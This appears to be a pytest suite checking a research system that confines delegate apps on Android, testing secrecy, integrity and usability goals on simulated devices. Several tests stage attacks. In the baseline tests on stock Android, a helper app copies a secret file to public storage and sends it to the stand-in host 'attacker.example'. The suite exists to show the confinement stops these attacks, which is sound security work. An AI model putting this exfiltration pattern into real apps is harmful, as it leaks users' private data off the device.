"""End-to-end checks of the paper's security and usability goals
(section 3): S1-S4 and U1-U3, each tested through the full stack."""

import pytest

from repro.errors import KernelError, NetworkUnreachable
from repro import AndroidManifest
from repro.core.audit import leaked_off_device

A = "com.secrets.holder"   # the initiator
B = "com.untrusted.tool"   # the delegate
X = "com.bystander.app"    # an unrelated app

SECRET = b"MARKER-initiator-secret-0xDEAD"


@pytest.fixture
def env(device):
    class Nop:
        def main(self, api, intent):
            return None

    for package in (A, B, X):
        device.install(AndroidManifest(package=package), Nop())
    device.network.add_host("attacker.example")
    return device


class TestS1InitiatorSecrecy:
    def test_delegate_reads_initiator_private_file(self, env):
        a = env.spawn(A)
        path = a.write_internal("vault/secret.txt", SECRET)
        delegate = env.spawn(B, initiator=A)
        assert delegate.sys.read_file(path) == SECRET

    def test_bystander_cannot_read_initiator_private_file(self, env):
        a = env.spawn(A)
        path = a.write_internal("vault/secret.txt", SECRET)
        x = env.spawn(X)
        with pytest.raises(KernelError):
            x.sys.read_file(path)

    def test_delegate_public_write_invisible_to_bystander(self, env):
        a = env.spawn(A)
        path = a.write_internal("vault/secret.txt", SECRET)
        delegate = env.spawn(B, initiator=A)
        delegate.write_external("exfil/copy.txt", delegate.sys.read_file(path))
        x = env.spawn(X)
        assert not x.sys.exists("/storage/sdcard/exfil/copy.txt")

    def test_delegate_cannot_reach_network(self, env):
        delegate = env.spawn(B, initiator=A)
        with pytest.raises(NetworkUnreachable):
            delegate.connect("attacker.example")
        assert not leaked_off_device(env, SECRET)

    def test_after_confinement_b_cannot_observe_secret_residue(self, env):
        """When B later runs for itself, nothing derived from Priv(A)
        remains visible (S1's second clause)."""
        a = env.spawn(A)
        path = a.write_internal("vault/secret.txt", SECRET)
        delegate = env.spawn(B, initiator=A)
        delegate.write_internal("stash/copy.bin", delegate.sys.read_file(path))
        delegate.write_external("stash/copy2.bin", SECRET)
        normal_b = env.spawn(B)
        assert not normal_b.sys.exists("/data/data/" + B + "/stash/copy.bin")
        assert not normal_b.sys.exists("/storage/sdcard/stash/copy2.bin")


class TestS2InitiatorIntegrity:
    def test_delegate_cannot_overwrite_priv_a_in_place(self, env):
        a = env.spawn(A)
        path = a.write_internal("doc.txt", b"original")
        delegate = env.spawn(B, initiator=A)
        delegate.sys.write_file(path, b"tampered")
        assert a.sys.read_file(path) == b"original"

    def test_delegate_cannot_overwrite_public_in_place(self, env):
        a = env.spawn(A)
        a.write_external("shared.txt", b"public original")
        delegate = env.spawn(B, initiator=A)
        delegate.sys.write_file("/storage/sdcard/shared.txt", b"defaced")
        x = env.spawn(X)
        assert x.sys.read_file("/storage/sdcard/shared.txt") == b"public original"

    def test_commit_makes_update_default(self, env):
        a = env.spawn(A)
        a.write_external("doc.txt", b"v1")
        delegate = env.spawn(B, initiator=A)
        delegate.sys.write_file("/storage/sdcard/doc.txt", b"v2")
        a.volatile.commit("/storage/sdcard/tmp/doc.txt")
        assert env.spawn(X).sys.read_file("/storage/sdcard/doc.txt") == b"v2"

    def test_discard_reverts(self, env):
        a = env.spawn(A)
        a.write_external("doc.txt", b"v1")
        delegate = env.spawn(B, initiator=A)
        delegate.sys.write_file("/storage/sdcard/doc.txt", b"v2")
        env.clear_volatile(A)
        fresh_delegate = env.spawn(B, initiator=A)
        assert fresh_delegate.sys.read_file("/storage/sdcard/doc.txt") == b"v1"


class TestS3DelegateSecrecy:
    def test_initiator_cannot_read_delegate_private_state(self, env):
        normal_b = env.spawn(B)
        path = normal_b.write_internal("own/diary.txt", b"b's own secret")
        a = env.spawn(A)
        with pytest.raises(KernelError):
            a.sys.read_file(path)

    def test_initiator_cannot_read_delegate_writable_branch(self, env):
        delegate = env.spawn(B, initiator=A)
        delegate.write_internal("scratch.txt", b"delegate scratch")
        a = env.spawn(A)
        with pytest.raises(KernelError):
            a.sys.read_file("/data/data/" + B + "/scratch.txt")


class TestS4DelegateIntegrity:
    def test_priv_b_restored_after_delegation(self, env):
        normal_b = env.spawn(B)
        normal_b.prefs.put("setting", "user-choice")
        delegate = env.spawn(B, initiator=A)
        delegate.prefs.put("setting", "clobbered-by-delegate-run")
        fresh_b = env.spawn(B)
        assert fresh_b.prefs.get("setting") == "user-choice"

    def test_initiator_cannot_write_delegate_private_state(self, env):
        a = env.spawn(A)
        with pytest.raises(KernelError):
            a.sys.write_file("/data/data/" + B + "/planted.txt", b"evil")


class TestU1InitialStateAvailability:
    def test_delegate_sees_existing_public_state(self, env):
        env.spawn(X).write_external("music/song.mp3", b"public bytes")
        delegate = env.spawn(B, initiator=A)
        assert delegate.sys.read_file("/storage/sdcard/music/song.mp3") == b"public bytes"

    def test_delegate_sees_its_own_prior_private_state(self, env):
        normal_b = env.spawn(B)
        normal_b.prefs.put("preference", "keep-me")
        delegate = env.spawn(B, initiator=A)
        assert delegate.prefs.get("preference") == "keep-me"


class TestU2UpdateVisibility:
    def test_initiator_public_update_visible_to_running_delegate(self, env):
        delegate = env.spawn(B, initiator=A)
        env.spawn(X).write_external("news/today.txt", b"fresh update")
        assert delegate.sys.read_file("/storage/sdcard/news/today.txt") == b"fresh update"

    def test_sibling_delegates_share_vol(self, env):
        first = env.spawn(B, initiator=A)
        first.write_external("shared-vol.txt", b"from B^A")
        sibling = env.spawn(X, initiator=A)
        assert sibling.sys.read_file("/storage/sdcard/shared-vol.txt") == b"from B^A"

    def test_delegate_reads_its_own_writes(self, env):
        delegate = env.spawn(B, initiator=A)
        delegate.write_external("mine.txt", b"wrote this")
        assert delegate.sys.read_file("/storage/sdcard/mine.txt") == b"wrote this"

    def test_per_name_cow_freezes_only_touched_names(self, env):
        a = env.spawn(A)
        a.write_external("f1.txt", b"f1-v1")
        a.write_external("f2.txt", b"f2-v1")
        delegate = env.spawn(B, initiator=A)
        delegate.sys.write_file("/storage/sdcard/f1.txt", b"f1-delegate")
        a.sys.write_file("/storage/sdcard/f1.txt", b"f1-v2")
        a.sys.write_file("/storage/sdcard/f2.txt", b"f2-v2")
        # f1 is frozen at the volatile copy; f2 still tracks the public one.
        assert delegate.sys.read_file("/storage/sdcard/f1.txt") == b"f1-delegate"
        assert delegate.sys.read_file("/storage/sdcard/f2.txt") == b"f2-v2"


class TestU3Transparency:
    def test_delegate_uses_unmodified_paths(self, env):
        """The whole point: a delegate reads/writes the same paths an
        unconfined app would, with no Maxoid API calls."""
        delegate = env.spawn(B, initiator=A)
        delegate.sys.makedirs("/storage/sdcard/AppData")
        delegate.sys.write_file("/storage/sdcard/AppData/cache.bin", b"cache")
        assert delegate.sys.read_file("/storage/sdcard/AppData/cache.bin") == b"cache"
        delegate.prefs.put("k", "v")
        assert delegate.prefs.get("k") == "v"
        db = delegate.db("appdb")
        db.execute("CREATE TABLE t (id INTEGER PRIMARY KEY, v TEXT)")
        db.execute("INSERT INTO t (v) VALUES ('row')")
        assert db.query("SELECT v FROM t").rows == [("row",)]


class TestStockAndroidBaselineLeaks:
    """The attacks all succeed on stock Android — the motivation (2.2)."""

    def test_helper_leaks_to_public_storage_on_stock(self, stock_device):
        class Nop:
            def main(self, api, intent):
                return None

        for package in (A, B, X):
            stock_device.install(AndroidManifest(package=package), Nop())
        a = stock_device.spawn(A)
        a.write_external("attachment.pdf", SECRET)
        helper = stock_device.spawn(B)
        data = helper.sys.read_file("/storage/sdcard/attachment.pdf")
        helper.write_external("copies/leak.pdf", data)
        bystander = stock_device.spawn(X)
        assert bystander.sys.read_file("/storage/sdcard/copies/leak.pdf") == SECRET

    def test_helper_exfiltrates_over_network_on_stock(self, stock_device):
        class Nop:
            def main(self, api, intent):
                return None

        for package in (A, B):
            stock_device.install(AndroidManifest(package=package), Nop())
        stock_device.network.add_host("attacker.example")
        helper = stock_device.spawn(B)
        socket = helper.connect("attacker.example")
        socket.send(SECRET)
        assert leaked_off_device(stock_device, SECRET)
